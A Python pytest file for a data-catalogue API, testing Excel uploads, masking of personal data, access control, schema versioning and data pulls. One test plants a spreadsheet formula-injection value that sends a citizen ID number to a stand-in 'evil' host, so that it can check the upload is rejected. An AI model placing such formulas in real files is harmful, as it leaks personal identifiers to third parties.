"""The catalogue API as departments and partners use it; no response ever carries a raw value."""

from __future__ import annotations

import io
import json

import openpyxl
from sqlmodel import select

from authops.core.identity import OrgKind
from authops.core.jobs import service as jobs
from authops.platform.catalog.models import Dataset
from tests.support.builders import login, make_org, make_user
from tests.support.catalog import IDS, NAMES, PHONES, make_resource

SECRETS = [*IDS, *NAMES, *PHONES]


def _world(session):
    dept = make_org(session, OrgKind.PROVIDER)
    other = make_org(session, OrgKind.PROVIDER)
    partner = make_org(session, OrgKind.PARTNER)
    users = {"dept": make_user(session, dept), "other": make_user(session, other),
             "partner": make_user(session, partner, "partner_engineer")}
    res = make_resource(session, dept)
    session.commit()
    return res, users


def _filled_template(client, headers, code, rows) -> bytes:
    r = client.get(f"/api/v1/catalog/resources/{code}/template.xlsx", headers=headers)
    assert r.status_code == 200, r.text
    wb = openpyxl.load_workbook(io.BytesIO(r.content))
    ws = wb.worksheets[0]
    names = [c.value for c in ws[2]]
    for i, row in enumerate(rows, start=3):
        for j, name in enumerate(names, start=1):
            if name in row:
                ws.cell(row=i, column=j, value=row[name])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _upload(client, headers, code, data, name="batch.xlsx", mode="replace"):
    r = client.post(f"/api/v1/catalog/resources/{code}/uploads", headers=headers, data={"mode": mode},
                    files={"file": (name, data, "application/octet-stream")})
    assert r.status_code == 202, r.text
    return r.json()


def _run_job(settings, job_id):
    assert jobs.run_job(settings, job_id, worker="test") == "succeeded"


def _rows(n=4):
    return [{"id_number": IDS[i], "name": NAMES[i], "phone": PHONES[i], "sex": "男", "paid": 12.5,
             "paid_on": "2025-01-31"} for i in range(n)]


def test_a_department_feeds_by_excel_and_everyone_sees_only_masked_data(client, session, db_settings):
    res, users = _world(session)
    dept = login(client, users["dept"].username)
    up = _upload(client, dept, res.code, _filled_template(client, dept, res.code, _rows()))
    _run_job(db_settings, up["job_id"])
    run = client.get(f"/api/v1/catalog/runs/{up['run']['id']}", headers=dept).json()
    assert run["state"] == "succeeded" and run["rows_received"] == 4, run
    partner = login(client, users["partner"].username)
    bodies = []
    for path in ("", "/schema", "/versions", "/quality", "/sample?rows=20", "/mock"):
        for who in (dept, partner):
            r = client.get(f"/api/v1/catalog/resources/{res.code}{path}", headers=who)
            assert r.status_code == 200, (path, r.text)
            bodies.append(r.text)
    bodies.append(client.get("/api/v1/catalog/resources", headers=partner).text)
    bodies.append(client.get("/api/v1/catalog/runs", headers=dept).text)
    everything = "\n".join(bodies)
    for value in SECRETS:
        assert value not in everything and json.dumps(value)[1:-1] not in everything
    detail = client.get(f"/api/v1/catalog/resources/{res.code}", headers=partner).json()
    assert detail["rows"] == 4 and detail["privacy_unit"] == "person" and detail["key"] == ["id_number"]
    assert {f["name"]: f["grade"] for f in detail["fields"]}["id_number"] == "L4"
    sample = client.get(f"/api/v1/catalog/resources/{res.code}/sample", headers=partner).json()
    assert sample["masked"] and all(set(r["id_number"]) == {"*"} for r in sample["rows"])


def test_a_bad_upload_is_rejected_whole_with_a_report(client, session, db_settings):
    res, users = _world(session)
    dept = login(client, users["dept"].username)
    rows = _rows()
    rows[1]["id_number"] = IDS[1][:-1] + "3"
    rows[2]["name"] = f'=HYPERLINK("http://evil/?{IDS[2]}")'
    up = _upload(client, dept, res.code, _filled_template(client, dept, res.code, rows))
    _run_job(db_settings, up["job_id"])
    r = client.get(f"/api/v1/catalog/runs/{up['run']['id']}", headers=dept)
    run = r.json()
    assert run["state"] == "rejected" and run["error_count"] >= 1
    assert {"row", "column", "rule", "message"} <= set(run["report"]["errors"][0])
    for value in SECRETS:
        assert value not in r.text
    assert session.exec(select(Dataset)).all() == []


def test_another_department_cannot_feed_or_read_loads(client, session):
    res, users = _world(session)
    other = login(client, users["other"].username)
    r = client.post(f"/api/v1/catalog/resources/{res.code}/uploads", headers=other,
                    files={"file": ("b.csv", b"id_number\n", "text/csv")})
    assert r.status_code == 404
    assert client.get(f"/api/v1/catalog/resources/{res.code}/template.xlsx", headers=other).status_code == 404
    assert client.get(f"/api/v1/catalog/resources/{res.code}", headers=other).status_code == 200  # catalogue is open


def test_register_and_version_a_resource_over_the_api(client, session):
    _, users = _world(session)
    dept = login(client, users["dept"].username)
    body = {"code": "new_permits", "name_zh": "许可", "name_en": "Permits", "grade": "L2",
            "fields": [{"name": "uscc", "name_zh": "统一社会信用代码", "kind": "identifier_enterprise",
                        "grade": "L2", "required": True, "check": "gb32100"},
                       {"name": "permit_no", "name_zh": "许可证号", "kind": "code", "grade": "L2"}],
            "key": ["uscc"], "privacy_unit": "enterprise", "unit_field": "uscc",
            "share_modes": ["verify", "query"], "provision_modes": ["api"], "update_cycle": "daily"}
    r = client.post("/api/v1/catalog/resources", headers=dept, json=body)
    assert r.status_code == 201, r.text
    bad = dict(body, code="bad_one", key=["nope"])
    r = client.post("/api/v1/catalog/resources", headers=dept, json=bad)
    assert r.status_code == 422 and "nope" in r.json()["error"]["message"]
    change = {k: body[k] for k in ("key", "privacy_unit", "unit_field")} | {"fields": body["fields"][:1]}
    r = client.put("/api/v1/catalog/resources/new_permits/schema", headers=dept, json=change)
    assert r.status_code == 200 and r.json()["version"] == 2 and r.json()["breaking"]
    versions = client.get("/api/v1/catalog/resources/new_permits/versions", headers=dept).json()
    assert [v["version"] for v in versions["schema_versions"]] == [1, 2]


def _pull(client, db_settings, headers, code, body):
    src = client.post(f"/api/v1/catalog/resources/{code}/sources", headers=headers, json=body)
    assert src.status_code == 201, src.text
    assert "secret-pw" not in src.text  # the password is stored sealed and never shown
    job = client.post(f"/api/v1/catalog/resources/{code}/sources/{src.json()['id']}/run", headers=headers).json()
    _run_job(db_settings, job["job_id"])
    return client.get("/api/v1/catalog/runs", headers=headers).json()[0]


def test_pulls_from_a_department_table_and_api(client, session, db_settings, tmp_path):
    import sqlite3

    from authops.demo.department_api import serve_table
    from tests.support.catalog import person_rows

    res, users = _world(session)
    dept = login(client, users["dept"].username)
    dbfile = tmp_path / "frontend.sqlite3"
    with sqlite3.connect(dbfile) as conn:
        person_rows().to_pandas().assign(updated_at="2026-01-01 00:00:00").to_sql(
            "people", conn, index=False, dtype={"updated_at": "TIMESTAMP"})
    body = {"kind": "table", "url": f"sqlite:///{dbfile}", "table": "people", "incremental": True,
            "updated_column": "updated_at"}
    run = _pull(client, db_settings, dept, res.code, body)
    assert run["state"] == "succeeded" and run["rows_received"] == 4 and run["mode"] == "replace", run["message"]
    src_id = client.get(f"/api/v1/catalog/resources/{res.code}/sources", headers=dept).json()[0]["id"]
    with sqlite3.connect(dbfile) as conn:  # the department changes one row
        conn.execute("UPDATE people SET paid = '1.00', updated_at = '2026-02-01 00:00:00' WHERE sex = '女' "
                     "AND rowid = (SELECT min(rowid) FROM people WHERE sex = '女')")
    job = client.post(f"/api/v1/catalog/resources/{res.code}/sources/{src_id}/run", headers=dept).json()
    _run_job(db_settings, job["job_id"])
    run = client.get("/api/v1/catalog/runs", headers=dept).json()[0]
    assert (run["state"], run["mode"], run["rows_received"]) == ("succeeded", "upsert", 1), run
    assert client.get(f"/api/v1/catalog/resources/{res.code}", headers=dept).json()["rows"] == 4
    with serve_table(person_rows().slice(0, 3)) as api:
        run = _pull(client, db_settings, dept, res.code, {"kind": "api", "url": api.url, "page_size": 2})
    assert run["state"] == "succeeded" and run["rows_received"] == 3, run
    with serve_table(person_rows(), fail={"hang_from_page": 2}) as api:
        run = _pull(client, db_settings, dept, res.code, {
            "kind": "api", "url": api.url, "page_size": 2, "timeout": 0.5, "retries": 1,
            "headers": {"X-Token": "secret-pw"}})
    assert run["state"] == "failed" and "page 2" in run["message"], run
    detail = client.get(f"/api/v1/catalog/resources/{res.code}", headers=dept).json()
    assert detail["rows"] == 3  # the failed pull stored nothing
